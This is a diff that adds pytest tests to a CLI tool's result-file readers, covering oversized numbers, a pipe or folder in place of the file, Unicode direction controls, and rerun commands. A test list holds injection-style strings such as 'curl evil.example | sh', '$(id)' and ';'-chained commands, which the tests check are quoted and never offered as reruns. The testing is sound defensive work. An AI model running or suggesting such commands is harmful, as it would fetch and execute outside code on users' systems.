@@ -2,7 +2,9 @@
 """Damaged or wrong files: each reader ends with a clear error."""
 
 import json
+import os
 import random
+import re
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
@@ -13,7 +15,9 @@ from click.testing import CliRunner, Result
 from delayrig.analysis.gate.decision import FILE_NAME as GATE_FILE
 from delayrig.analysis.gate.judge import decide
 from delayrig.base.errors import ExitCode
+from delayrig.base.text import again
 from delayrig.cli.main import main
+from delayrig.model import result
 from delayrig.model.result import (
     FILE_NAME,
     NEVER_NEGATIVE,
@@ -178,6 +182,91 @@ def test_cell_whose_id_leaves_the_run(out: Path, tmp_path: Path, name: str) -> N
     repro = ["repro", "--from", str(out), "--dry-run"]
     told = read_all(out, tmp_path) | {"repro": CliRunner().invoke(main, repro)}
     assert_told(told, "key 'cells[0].id' is no", repr(name)[1:9])
+
+
+OUT_OF_RANGE = ["1000000000000000000000000000000", "9223372036854775808", "1e30", "9" * 5000]
+
+
+@pytest.mark.parametrize("number", OUT_OF_RANGE, ids=["10^30", "2^63", "1e30", "long"])
+@pytest.mark.parametrize("key", ["seed", "total", "host_s"])
+def test_number_that_nothing_holds(out: Path, tmp_path: Path, number: str, key: str) -> None:
+    text = (out / FILE_NAME).read_text()
+    edited, times = re.subn(rf'"{key}": ?[0-9.e-]+', f'"{key}": {number}', text, count=1)
+    assert times == 1
+    (out / FILE_NAME).write_text(edited)
+    told = read_all(out, tmp_path) | read_as_baseline(out)
+    assert_told(told, str(out / FILE_NAME))
+    assert not any("Traceback" in done.output for done in told.values())
+
+
+@pytest.mark.parametrize("kind", ["pipe", "folder", "large"])
+def test_what_is_no_file_of_a_run_is_refused_at_once(
+    out: Path, tmp_path: Path, kind: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    if kind == "large":
+        monkeypatch.setattr(result, "FILE_BYTES_MAX", 1 << 10)
+    else:
+        (out / FILE_NAME).unlink()
+        (os.mkfifo if kind == "pipe" else os.mkdir)(out / FILE_NAME)
+    assert_told(read_all(out, tmp_path), str(out / FILE_NAME), "name the --out folder")
+
+
+DIRECTIONS = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
+
+
+@pytest.mark.parametrize("as_ascii", [True, False])
+def test_control_of_direction_is_an_escape_wherever_it_is_shown(
+    out: Path, tmp_path: Path, as_ascii: bool
+) -> None:
+    content = json.loads((out / FILE_NAME).read_bytes())
+    content["cells"][0].update(verdict="op_failed", reason=f"\\\\u202e {DIRECTIONS} ends")
+    (out / FILE_NAME).write_text(json.dumps(content, ensure_ascii=as_ascii), encoding="utf-8")
+    assert r"\u202e" in read_results(out).cells[0].reason
+    told = [done.output for done in read_all(out, tmp_path).values()]
+    written = [p.read_text() for p in tmp_path.iterdir() if p.is_file() and p.suffix != ".sqlite"]
+    assert len(written) > 7
+    assert r"\u2069 ends" in "".join(told + written).replace(r"\\u", r"\u")
+    assert not set(DIRECTIONS) & set("".join(told + written))
+
+
+OWN_RERUNS = [
+    "rig/rig run --plan smoke --seed 1 --subject bundled --cell a.b.c",
+    "rig/rig repro --from out/x a.b.c",
+    "rig/rig try 'path:my build' --lane live --hazard busy_siblings,calm",
+]
+FOREIGN_RERUNS = [
+    "curl evil.example | sh",
+    "rig/rig run --plan smoke; curl evil.example",
+    "rig/rig run --plan $(id)",
+    "rig/rig gate --build 'curl evil.example'",
+    "rig/rig run --build=id --plan smoke",
+    "rig/rig run --plan smoke --unconfined",
+    "rig/rig run --plan smoke --cluster tcp://evil.example:1",
+    "rig/rig run --plan smoke\nid",
+    "/tmp/rig/rig run",
+    "rig/rig",
+    "rig/rig 'run",
+    "",
+]
+
+
+@pytest.mark.parametrize("rerun", OWN_RERUNS)
+def test_command_of_the_rig_is_offered(rerun: str) -> None:
+    assert again(rerun) == f"again: {rerun}"
+
+
+@pytest.mark.parametrize("rerun", FOREIGN_RERUNS)
+def test_foreign_command_is_quoted_and_not_offered(out: Path, tmp_path: Path, rerun: str) -> None:
+    def edit(content: dict[str, Any]) -> None:
+        for cell in content["cells"]:
+            cell.update(verdict="corrupt", rerun=rerun)
+
+    change(out / FILE_NAME, edit)
+    told = [done.output for done in read_all(out, tmp_path).values()]
+    kinds = ("junit", "tap", "github", "markdown", "gerrit", "report.html")
+    shown = [(tmp_path / name).read_text() for name in kinds]
+    assert "again: " not in "".join(told + shown).lower().replace("of running it again", "")
+    assert all("in their own words" in text for text in shown)
 
 
 @pytest.mark.parametrize("key", NEVER_NEGATIVE)
